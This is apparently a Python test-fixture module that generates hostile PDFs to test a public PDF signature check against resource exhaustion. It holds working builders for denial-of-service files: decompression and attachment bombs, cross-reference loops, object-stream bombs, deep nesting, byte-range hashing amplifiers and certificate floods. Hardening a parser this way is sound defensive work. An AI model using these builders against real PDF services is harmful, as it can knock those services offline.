"""Hostile PDFs for the public PDF check, written as raw bytes so every byte is the attacker's.

Each builder returns a file of at most 5 MB (the upload limit) that makes a naive reader spend
memory or CPU out of all proportion to its size: compressed attachments, filter chains, cross-
reference loops, object streams with huge headers, deep nesting, huge arrays, many signature
fields, byte ranges that hash the file over and over, and signature blobs full of certificates.
"""
from __future__ import annotations

import functools
import re
import zlib
from collections.abc import Callable, Mapping

#: what each attachment of the reported attack inflated to: pypdf's own per-stream ceiling
BOMB_BYTES = 75_000_000
UPLOAD_LIMIT = 5 * 1024 * 1024

_HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
_PAGES = {
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
}


def stream(entries: bytes, data: bytes) -> bytes:
    """The body of a stream object with the given dictionary entries and raw data."""
    return b"<< " + entries + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def raw_pdf(objects: Mapping[int, bytes], *, root: int = 1, info: int | None = None,
            trailer: bytes = b"") -> bytes:
    """A PDF with these numbered objects, a classic cross-reference table and a trailer."""
    out = bytearray(_HEADER)
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += (b"%010d 00000 n \n" % offsets[number] if number in offsets
                else b"0000000000 65535 f \n")
    extra = (b" /Info %d 0 R" % info if info else b"") + trailer
    out += b"trailer\n<< /Size %d /Root %d 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root, extra, xref_at)
    return bytes(out)


def catalog(entries: bytes = b"") -> dict[int, bytes]:
    """A one-page document whose catalog (object 1) carries extra entries."""
    return {1: b"<< /Type /Catalog /Pages 2 0 R " + entries + b" >>", **_PAGES}


def embedded_files(names: list[tuple[bytes, int]]) -> bytes:
    """Catalog entries naming these file specifications as embedded files, in this order."""
    pairs = b" ".join(b"(%s) %d 0 R" % (name, number) for name, number in names)
    return b"/Names << /EmbeddedFiles << /Names [" + pairs + b"] >> >>"


def file_spec(name: bytes, stream_number: int) -> bytes:
    """A file specification whose embedded file is the given stream object."""
    return (b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F %d 0 R >> >>"
            % (name, name, stream_number))


@functools.cache
def _deflated(layers: int, size: int = BOMB_BYTES) -> bytes:
    data = bytes(size)
    for _ in range(layers):
        data = zlib.compress(data, 9)
    return data


def attachment_bomb(count: int | None = None) -> bytes:
    """Many attachments named certificate.json, each [/FlateDecode /FlateDecode] of 75 MB zeros."""
    payload = _deflated(2)
    count = count or max(1, 20_000 // (len(payload) + 160))
    objects, names = catalog(), []
    for index in range(count):
        spec, data = 10 + 2 * index, 11 + 2 * index
        objects[spec] = file_spec(b"certificate.json", data)
        objects[data] = stream(b"/Type /EmbeddedFile /Filter [/FlateDecode /FlateDecode] "
                               b"/Params << /Size 120 >>", payload)
        names.append((b"certificate.json", spec))
    objects[1] = catalog(embedded_files(names))[1]
    return raw_pdf(objects)


def nested_filters(layers: int = 6) -> bytes:
    """One certificate.json behind a chain of FlateDecode filters that ends in 75 MB."""
    chain = b" ".join([b"/FlateDecode"] * layers)
    objects = catalog(embedded_files([(b"certificate.json", 10)]))
    objects[10] = file_spec(b"certificate.json", 11)
    objects[11] = stream(b"/Type /EmbeddedFile /Filter [" + chain + b"]", _deflated(layers))
    return raw_pdf(objects)


def lying_attachment() -> bytes:
    """One Flate certificate.json that declares 120 bytes and inflates to 75 MB."""
    objects = catalog(embedded_files([(b"certificate.json", 10)]))
    objects[10] = file_spec(b"certificate.json", 11)
    objects[11] = stream(b"/Type /EmbeddedFile /Filter /FlateDecode /Params << /Size 120 >>",
                         _deflated(1))
    return raw_pdf(objects)


def xref_loop() -> bytes:
    """Two cross-reference sections whose /Prev entries point at each other."""
    body = raw_pdf(catalog())
    first = body.rindex(b"\nxref\n") + 1
    table = body[first:body.index(b"trailer", first)]

    def section(previous: int) -> bytes:
        return table + b"trailer\n<< /Size 4 /Root 1 0 R /Prev %010d >>\n" % previous

    second = first + len(section(0))
    return (body[:first] + section(second) + section(first)
            + b"startxref\n%d\n%%%%EOF\n" % second)


def xref_chain(sections: int = 60_000) -> bytes:
    """Tens of thousands of incremental cross-reference sections chained by /Prev."""
    out = bytearray(raw_pdf(catalog()))
    previous = int(out[out.rindex(b"startxref") + 10:].split()[0])
    for _ in range(sections):
        at = len(out)
        out += (b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\n"
                % previous)
        previous = at
        if len(out) > UPLOAD_LIMIT - 200:
            break
    out += b"startxref\n%d\n%%%%EOF\n" % previous
    return bytes(out)


def object_stream_bomb(pairs: int = 350_000) -> bytes:
    """The catalog sits behind 350,000 entries of an object stream's header."""
    header = b"".join(b"%d 0 " % (100 + index) for index in range(pairs)) + b"1 0 "
    data = header + b"<< /Type /Catalog /Pages 2 0 R >>"
    objstm = stream(b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode"
                    % (pairs + 1, len(header)), zlib.compress(data, 9))
    out = bytearray(_HEADER)
    offsets = {}
    for number, body in {**_PAGES, 5: objstm}.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    # Only a cross-reference stream can say "object 1 is entry N of object stream 5".
    rows = [b"\x00" + bytes(4) + b"\xff\xff\xff\xff",
            b"\x02" + (5).to_bytes(4, "big") + pairs.to_bytes(4, "big")]
    for number in (2, 3, 4, 5):
        rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + bytes(4) if number in offsets
                    else b"\x00" + bytes(4) + b"\xff\xff\xff\xff")
    xref_at = len(out)
    rows.append(b"\x01" + xref_at.to_bytes(4, "big") + bytes(4))
    xref = stream(b"/Type /XRef /Size 7 /W [1 4 4] /Root 1 0 R", b"".join(rows))
    out += b"6 0 obj\n" + xref + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def xref_stream_bomb(entries: int = 50_000_000) -> bytes:
    """A cross-reference stream declaring fifty million entries of zero bytes each."""
    body = raw_pdf(catalog())
    body = body[: body.rindex(b"\nxref\n") + 1]
    xref_at = len(body)
    xref = stream(b"/Type /XRef /Size %d /W [0 0 0] /Root 1 0 R" % entries, b"")
    return body + b"9 0 obj\n" + xref + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at


def deep_nesting(depth: int = 400_000) -> bytes:
    """A catalog whose /AcroForm and /Names are arrays nested hundreds of thousands deep."""
    nested = b"[" * depth + b"]" * depth
    return raw_pdf(catalog(b"/AcroForm << /Fields " + nested + b" >> /Names " + nested))


def huge_array(entries: int = 780_000) -> bytes:
    """An /AcroForm whose /Fields array holds 780,000 references."""
    return raw_pdf(catalog(b"/AcroForm << /Fields [" + b"3 0 R " * entries + b"] >>"))


def _signature_dict(contents: bytes, byte_range: bytes = b"[0 10 20 10]") -> bytes:
    return (b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
            b"/ByteRange " + byte_range + b" /Contents <" + contents.hex().encode() + b"> >>")


def signature_fields(cms: bytes, fields: int = 40_000) -> bytes:
    """Tens of thousands of filled signature fields, all pointing at one real signature."""
    objects = catalog(b"/AcroForm 4 0 R")
    objects[5] = _signature_dict(cms)
    first = 10
    objects[4] = b"<< /Fields [%s] >>" % b" ".join(b"%d 0 R" % (first + i) for i in range(fields))
    for index in range(fields):
        objects[first + index] = b"<< /FT /Sig /T (s%d) /V 5 0 R >>" % index
    return raw_pdf(objects)


def byte_range_amplifier(cms: bytes, ranges: int = 60_000) -> bytes:
    """One signature whose /ByteRange asks for the whole file to be hashed 60,000 times."""
    objects = catalog(b"/AcroForm << /Fields [4 0 R] >>")
    objects[4] = b"<< /FT /Sig /T (s) /V 5 0 R >>"
    objects[6] = b"<< /Padding (" + b"x" * 400_000 + b") >>"
    objects[5] = _signature_dict(cms, b"[" + b"0 400000 " * ranges + b"]")
    return raw_pdf(objects)


@functools.cache
def certificate_flood(cms: bytes, copies: int = 3_000) -> bytes:
    """A signature whose CMS carries thousands of copies of its certificates."""
    from asn1crypto import cms as asn1_cms

    info = asn1_cms.ContentInfo.load(cms)
    signed = info["content"]
    certificates = list(signed["certificates"])
    signed["certificates"] = asn1_cms.CertificateSet(
        certificates + certificates * (copies // max(1, len(certificates))))
    flooded = asn1_cms.ContentInfo({"content_type": "signed_data", "content": signed}).dump(
        force=True)
    flooded = flooded[: (UPLOAD_LIMIT - 10_000) // 2]
    objects = catalog(b"/AcroForm << /Fields [4 0 R] >>")
    objects[4] = b"<< /FT /Sig /T (s) /V 5 0 R >>"
    objects[5] = _signature_dict(flooded)
    return raw_pdf(objects)


def name_tree_loop() -> bytes:
    """An /EmbeddedFiles name tree whose /Kids point back at themselves, thousands wide."""
    objects = catalog(b"/Names << /EmbeddedFiles 4 0 R >>")
    objects[4] = b"<< /Kids [" + b"4 0 R 5 0 R " * 200_000 + b"] >>"
    objects[5] = b"<< /Kids [4 0 R 5 0 R] >>"
    return raw_pdf(objects)


def self_parent(where: str) -> bytes:
    """A tree node whose /Kids is the node itself, not an array: as form fields or file names."""
    entry = (b"/AcroForm << /Fields [4 0 R] >>" if where == "fields"
             else b"/Names << /EmbeddedFiles 4 0 R >>")
    objects = catalog(entry)
    objects[4] = b"<< /Kids 4 0 R >>"
    return raw_pdf(objects)


def signed_certificate_update(signed: bytes) -> bytes:
    """A genuine signed certificate with an incremental update that adds the attachment bomb."""
    root = re.findall(rb"/Root (\d+) 0 R", signed)[-1]
    size = int(re.findall(rb"/Size (\d+)", signed)[-1])
    previous = int(signed[signed.rindex(b"startxref") + 10:].split()[0])
    old_catalog = _object_body(signed, int(root))
    keep = b" ".join(re.findall(rb"/(?:Pages|AcroForm) \d+ 0 R", old_catalog))
    payload = _deflated(2)
    count = max(1, 20_000 // (len(payload) + 160))
    objects: dict[int, bytes] = {}
    names = []
    for index in range(count):
        spec, data = size + 2 * index, size + 1 + 2 * index
        objects[spec] = file_spec(b"certificate.json", data)
        objects[data] = stream(b"/Type /EmbeddedFile /Filter [/FlateDecode /FlateDecode]",
                               payload)
        names.append((b"certificate.json", spec))
    objects[int(root)] = b"<< /Type /Catalog " + keep + b" " + embedded_files(names) + b" >>"
    out = bytearray(signed)
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n"
    for number in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    new_size = max(max(objects) + 1, size)
    out += b"trailer\n<< /Size %d /Root %s 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        new_size, root, previous, xref_at)
    return bytes(out)


def _object_body(data: bytes, number: int) -> bytes:
    """The text of an uncompressed object, or of its entry in an object stream."""
    match = re.search(rb"(?<![0-9])%d 0 obj(.*?)endobj" % number, data, re.S)
    if match:
        return match.group(1)
    for found in re.finditer(rb"/Type\s*/ObjStm(.*?)stream\r?\n", data, re.S):
        length = int(re.search(rb"/Length (\d+)", found.group(1)).group(1))
        start = found.end()
        decoded = zlib.decompress(data[start:start + length])
        first = int(re.search(rb"/First (\d+)", found.group(1)).group(1))
        numbers = decoded[:first].split()
        for index in range(0, len(numbers), 2):
            if int(numbers[index]) == number:
                begin = first + int(numbers[index + 1])
                return decoded[begin:begin + 2000]
    raise LookupError(number)


#: name -> builder taking the CMS of a genuine signature (ignored by most)
HOSTILE: dict[str, Callable[[bytes], bytes]] = {
    "attachment bomb": lambda cms: attachment_bomb(),
    "nested filters": lambda cms: nested_filters(),
    "lying attachment": lambda cms: lying_attachment(),
    "xref loop": lambda cms: xref_loop(),
    "xref chain": lambda cms: xref_chain(),
    "xref stream bomb": lambda cms: xref_stream_bomb(),
    "object stream bomb": lambda cms: object_stream_bomb(),
    "deep nesting": lambda cms: deep_nesting(),
    "huge array": lambda cms: huge_array(),
    "name tree loop": lambda cms: name_tree_loop(),
    "form field that is its own kid": lambda cms: self_parent("fields"),
    "name tree node that is its own kid": lambda cms: self_parent("names"),
    "signature fields": signature_fields,
    "byte range amplifier": byte_range_amplifier,
    "certificate flood": certificate_flood,
}
